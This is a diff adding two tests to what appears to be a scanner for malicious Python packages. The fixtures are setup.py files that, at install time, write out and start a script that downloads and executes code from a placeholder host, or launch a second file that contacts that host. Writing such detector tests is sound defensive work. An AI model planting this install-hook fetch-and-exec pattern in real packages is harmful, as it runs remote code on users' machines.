@@ -147,3 +147,28 @@ def test_same_member_twice_is_scanned_twice() -> None:
         archive.writestr("widget/__init__.py", "VERSION = 1")
     report = scan_stream(stream, filename=WHEEL_NAME, ruleset=the_ruleset(), bounds=ScanBounds())
     assert report.verdict is Verdict.MALICIOUS
+
+
+def test_program_that_is_written_out_and_started_is_read() -> None:
+    report = scan_sdist(
+        {
+            "setup.py": (
+                "import os, tempfile\nfrom setuptools import setup\n"
+                "file = tempfile.NamedTemporaryFile(delete=False)\n"
+                "file.write(b\"from urllib.request import urlopen as u;exec(u('https://x.example.invalid').read())\")\n"
+                "os.system(f'start pythonw {file.name}')\nsetup(name='widget')\n"
+            )
+        }
+    )
+    finding = finding_of(report, "response-executed")
+    assert (finding.context, finding.severity, finding.line) == (Context.INSTALL, Severity.CRITICAL, 4)
+
+
+def test_script_that_setup_starts_counts_as_install() -> None:
+    report = scan_sdist(
+        {
+            "setup.py": "import subprocess, sys\nsubprocess.call([sys.executable, 'after.py'])",
+            "after.py": "import urllib.request\nurllib.request.urlopen('https://x.example.invalid')",
+        }
+    )
+    assert finding_of(report, "install-network").member == "widget-1/after.py"
